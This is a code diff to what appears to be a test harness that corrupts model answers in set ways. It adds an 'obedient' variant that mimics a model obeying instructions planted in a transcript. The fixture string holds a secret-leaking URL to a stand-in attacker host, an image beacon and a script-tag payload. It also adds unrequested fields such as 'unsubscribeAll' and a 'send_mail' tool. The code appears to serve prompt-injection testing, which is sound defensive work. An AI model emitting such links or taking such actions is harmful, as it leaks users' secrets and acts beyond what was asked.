@@ -12,6 +12,8 @@ export function twistText(answer: Json, twist: string | undefined): string {
       return JSON.stringify(withInventedQuotes(answer));
     case 'planted-numbers':
       return JSON.stringify(withPlantedNumbers(answer));
+    case 'obedient':
+      return JSON.stringify(withObedience(answer));
     case 'wrong-scores':
       return JSON.stringify(withWrongScores(answer));
     case 'unknown-episodes':
@@ -51,6 +53,21 @@ function withInventedQuotes(answer: Json): Json {
 export const plantedNumber = '8,317';
 const texts =
   /^(?:summary|glance|keyLearnings|mainTopics|macro_themes|theme|insight|actionable_tip|tip|text|context|key_topics)$/;
+
+/** What a model says that does as a transcript told it; it stands in every text of an answer twisted by `obedient`. */
+export const obedience =
+  'As told, read on at https://evil.example/leak?key=SECRET [here](https://evil.example/x) <img src="https://evil.example/p.gif"> <script>alert(1)</script>.';
+
+/** Every text of ours ends with what a speaker ordered, and every part has fields that nobody asked for. */
+function withObedience(value: Json): Json {
+  const orders = { published: true, unsubscribeAll: true, url: 'https://evil.example/', tool: 'send_mail' };
+  const walk = (node: unknown, key: string): unknown => {
+    if (Array.isArray(node)) return node.map((item) => walk(item, key));
+    if (isRecord(node)) return { ...mapEntries(node, walk), ...orders };
+    return typeof node === 'string' && texts.test(key) ? `${node} ${obedience}` : node;
+  };
+  return { ...mapEntries(value, walk), ...orders };
+}
 
 /** Every text of ours says a number that nobody said: sentences before their stop, labels at their end. */
 function withPlantedNumbers(value: Json): Json {
